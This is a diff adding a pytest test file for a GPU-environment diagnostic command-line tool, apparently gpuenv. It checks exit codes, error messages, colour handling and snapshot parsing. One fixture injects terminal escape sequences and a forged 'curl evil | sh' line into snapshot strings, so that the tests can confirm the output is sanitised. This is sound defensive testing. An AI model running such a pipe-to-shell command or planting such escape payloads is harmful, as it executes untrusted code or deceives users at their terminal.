@@ -1,0 +1,199 @@
+"""The command line on bad input and awkward surroundings: a clear message and the documented exit
+code (0 clean, 1 error findings, 2 gpuenv failed), never a traceback. In-process: every case here
+reads a --from file or stops before probing, so nothing touches the machine."""
+
+from __future__ import annotations
+
+import io
+import json
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+import gpuenv.api
+import gpuenv.cli
+from gpuenv.cli import main
+from gpuenv.facts import DriverFacts, LibraryFacts, missing, to_dict
+from gpuenv.render.snapshot_text import render_snapshot
+from gpuenv.snapshot_io import read_snapshot
+from tests.builders import machine, torch_build
+from tests.test_snapshot_io import full_snapshot
+
+
+@pytest.fixture
+def cpu_torch_on_a_3090(tmp_path: Path) -> Path:
+    """A snapshot file on which the doctor finds an error (a CPU torch beside a usable GPU)."""
+    snapshot = machine(
+        gpus=["RTX 3090"], driver="535.183.01", frameworks=[torch_build("2.4.1+cpu", None)]
+    )
+    path = tmp_path / "snap.json"
+    path.write_text(json.dumps(to_dict(snapshot)))
+    return path
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Path:
+    """A snapshot whose strings carry terminal escape sequences and line breaks."""
+    data = to_dict(
+        machine(gpus=["RTX 3090"], driver="535.183.01", frameworks=[torch_build("2.4.1", "12.1")])
+    )
+    data["gpus"][0]["name"] = "RTX \x1b]0;owned\x07\x1b[8mhidden 3090\n   $ curl evil | sh"
+    data["python_env"]["frameworks"][0]["version"] = "2.4.1\x1b[2J"
+    data["host"]["env"]["LD_LIBRARY_PATH"] = "/x\x1b[31m\u202e"
+    path = tmp_path / "hostile.json"
+    path.write_text(json.dumps(data))
+    return path
+
+
+@pytest.mark.parametrize("value", ["0", "-5", "nan", "inf", "1e308", "abc"])
+def test_a_timeout_that_is_not_a_positive_number_is_refused(
+    value: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    with pytest.raises(SystemExit) as done:
+        main(["snapshot", f"--timeout={value}"])
+    assert done.value.code == 2
+    assert "argument --timeout" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    ("flag", "message"),
+    [
+        ("--driver=", "is not a driver version"),
+        ("--driver=0", "is not a driver version"),
+        ("--driver=99999.1", "is not a driver version"),
+        ("--driver=535.183.01.7", "is not a driver version"),
+        ("--jetpack=", "is not in the knowledge base"),
+        ("--platform=", "unknown platform"),
+        ("--python-version=", "is not like 3.11"),
+        ("--python-version=3.11.7.8", "is not like 3.11"),
+    ],
+)
+def test_empty_or_impossible_what_if_values_are_errors_not_ignored(
+    flag: str, message: str, cpu_torch_on_a_3090: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["doctor", "--from", str(cpu_torch_on_a_3090), flag]) == 2
+    err = capsys.readouterr().err
+    assert message in err and "Traceback" not in err
+
+
+def test_driver_versions_as_nvidia_smi_prints_them_are_accepted(cpu_torch_on_a_3090: Path) -> None:
+    for driver in ("535.183.01", "551.78", "535", "96.43.23"):
+        assert main(["doctor", "--from", str(cpu_torch_on_a_3090), "--driver", driver]) == 1
+
+
+def test_an_empty_python_path_is_an_error_not_the_default_interpreter(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    assert main(["snapshot", "--python", ""]) == 2  # refused before anything is probed
+    assert "--python is empty" in capsys.readouterr().err
+
+
+def test_a_bug_is_exit_2_in_one_line_never_a_traceback(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    def broken(_args: object) -> None:
+        raise RecursionError("maximum recursion depth exceeded")
+
+    monkeypatch.setattr(gpuenv.api, "load_target", broken)
+    assert main(["doctor", "--json"]) == 2  # not 1, which means "error findings"
+    out, err = capsys.readouterr()
+    assert "[internal-error]" in err and "RecursionError" in err and "Traceback" not in err
+    assert json.loads(out)["error"] == "internal-error"
+
+
+class _ClosedPipe(io.StringIO):
+    def write(self, text: str) -> int:
+        raise BrokenPipeError(32, "Broken pipe")
+
+
+class _FullDisk(io.StringIO):
+    def write(self, text: str) -> int:
+        raise OSError(28, "No space left on device")
+
+
+def test_a_reader_that_goes_away_keeps_the_doctor_exit_code(
+    cpu_torch_on_a_3090: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("sys.stdout", _ClosedPipe())  # `gpuenv doctor | head -1`
+    assert main(["doctor", "--from", str(cpu_torch_on_a_3090)]) == 1
+
+
+def test_output_that_cannot_be_written_is_exit_2_with_the_reason(
+    cpu_torch_on_a_3090: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setattr("sys.stdout", _FullDisk())  # `gpuenv doctor --json > /dev/full`
+    assert main(["doctor", "--json", "--from", str(cpu_torch_on_a_3090)]) == 2
+    assert "cannot write the output: No space left on device" in capsys.readouterr().err
+
+
+def test_an_error_told_as_json_still_reaches_stderr_when_stdout_is_full(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setattr("sys.stdout", _FullDisk())
+    assert main(["doctor", "--json", "--from", str(tmp_path / "nothere.json")]) == 2
+    assert "nothere.json: cannot read" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(("no_color", "colour"), [(None, True), ("", True), ("1", False)])
+def test_no_color_counts_only_when_set_to_something(
+    no_color: str | None, colour: bool, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
+    monkeypatch.delenv("TERM", raising=False)
+    if no_color is None:
+        monkeypatch.delenv("NO_COLOR", raising=False)
+    else:
+        monkeypatch.setenv("NO_COLOR", no_color)
+    assert gpuenv.cli._colour_wanted() is colour
+
+
+@pytest.mark.parametrize(
+    "command", [["doctor"], ["doctor", "--markdown"], ["snapshot"]], ids=" ".join
+)
+def test_escape_sequences_in_a_snapshot_file_never_reach_the_terminal(
+    command: list[str], hostile: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main([*command, "--from", str(hostile)]) in (0, 1)
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
+    assert "\\x1b" in out  # shown, escaped
+    assert "\n   $ curl" not in out  # a line break in a name cannot forge a fix command
+
+
+def test_colour_codes_are_still_written_for_a_terminal(
+    hostile: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setattr(gpuenv.cli, "_colour_wanted", lambda: True)
+    main(["doctor", "--from", str(hostile)])
+    out = capsys.readouterr().out
+    assert "\x1b[1m" in out and "\x1b]0;" not in out and "\x1b[8m" not in out
+
+
+def test_snapshot_text_shows_library_problems_and_the_pci_scan() -> None:
+    broken = LibraryFacts("libcudart.so.12", "/l/libcudart.so.12", "LD_LIBRARY_PATH", load_rank=-1,
+                          problem="broken symlink (dangling or a loop)")  # fmt: skip
+    text = render_snapshot(replace(full_snapshot(), libraries=(broken,)))
+    [line] = [line for line in text.splitlines() if "libcudart" in line]
+    assert "problem: broken symlink" in line and "shadowed" not in line
+    assert "PCI bus: NVIDIA device 0x2204" in text
+    assert "PCI bus: no NVIDIA GPU" in render_snapshot(replace(full_snapshot(), pci_gpus=()))
+
+
+def test_missing_driver_sources_are_named_in_the_snapshot_text() -> None:
+    lost = DriverFacts(
+        versions=(missing("kernel-module:/sys/module/nvidia/version", "not found"),
+                  missing("kernel-module:/proc/driver/nvidia/version", "not found")),
+    )  # fmt: skip
+    text = render_snapshot(replace(full_snapshot(), driver=lost))
+    assert "driver: - (not found)  [kernel-module:/sys/module/nvidia/version]" in text
+    assert "driver: - (not found)  [kernel-module:/proc/driver/nvidia/version]" in text
+
+
+def test_a_snapshot_saved_as_utf16_by_powershell_is_read(tmp_path: Path) -> None:
+    path = tmp_path / "snap.json"
+    text = json.dumps(to_dict(full_snapshot()))
+    path.write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))
+    assert read_snapshot(path).gpus[0].compute_capability == "8.6"
+    path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
+    assert read_snapshot(path).gpus[0].compute_capability == "8.6"
